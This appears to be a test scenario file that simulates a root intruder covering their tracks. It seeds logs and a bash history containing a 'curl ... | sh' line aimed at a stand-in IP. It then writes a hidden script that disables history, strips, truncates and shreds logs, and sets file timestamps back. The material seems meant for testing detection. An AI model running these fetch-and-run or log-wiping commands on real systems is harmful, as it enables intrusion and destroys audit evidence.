# An intruder with root's rights removes the traces: no history from now on, the old one linked to nothing, logs emptied,
# edited, removed and shredded, and the times of the changed files set back.
user=root
directory=/root
command=(bash -c 'unset HISTFILE; export HISTSIZE=0; . /dev/shm/.tidy')

prepare() {
    mkdir -p /var/log/site /var/log/audit
    local log
    for log in auth.log syslog kern.log site/access.log site/error.log audit/audit.log wtmp btmp lastlog; do
        printf 'before\nlogin from 192.0.2.66\nafter\n' >/var/log/$log
        touch -d '2026-01-02 03:04:05' /var/log/$log
    done
    printf 'ls\ncurl http://192.0.2.66/x | sh\n' >/root/.bash_history
    cat >/dev/shm/.tidy <<'END'
sed -i /192.0.2.66/d /var/log/auth.log
: > /var/log/syslog
truncate -s 0 /var/log/kern.log
cat /dev/null > /var/log/wtmp
cp /dev/null /var/log/lastlog
rm -f /var/log/site/access.log /var/log/site/error.log
shred -n 1 -u /var/log/audit/audit.log
rm -f /root/.bash_history
ln -s /dev/null /root/.bash_history
touch -r /var/log/btmp /var/log/auth.log /var/log/syslog /var/log/kern.log
touch -d '2026-01-02 03:04:05' /var/log/wtmp /var/log/lastlog
rm -f /dev/shm/.tidy
END
}
